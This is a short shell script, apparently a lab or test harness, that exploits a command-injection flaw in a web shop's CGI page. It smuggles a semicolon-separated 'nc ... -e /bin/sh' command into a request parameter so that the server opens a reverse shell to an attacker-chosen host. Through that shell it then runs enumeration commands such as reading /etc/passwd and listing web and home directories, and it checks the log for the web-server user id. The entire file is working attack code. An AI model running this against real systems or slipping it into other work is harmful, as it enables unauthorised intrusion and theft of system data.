#!/bin/sh
# reverse-shell.sh WEB OWN SECONDS - makes the shop's web server open a shell to OWN, through a page that trusts what it is asked.
log=/run/mien/shell.log
: >"$log"
{ sleep 3; for word in id 'uname -a' 'cat /etc/passwd' 'ls /srv/www /home'; do echo "$word"; sleep 2; done; sleep "$3"; } |
  timeout "$(($3 + 20))" nc -l -p 4444 >"$log" &
listener=$!
sleep 1
# The space is written as +, the semicolon as %3B, as a browser would.
wget -q -O /dev/null "http://$1/cgi-bin/reach?127.0.0.1%3Bnc+$2+4444+-e+/bin/sh" &
sleep "$(($3 + 6))"
kill $listener 2>/dev/null
grep -q 'uid=33' "$log"
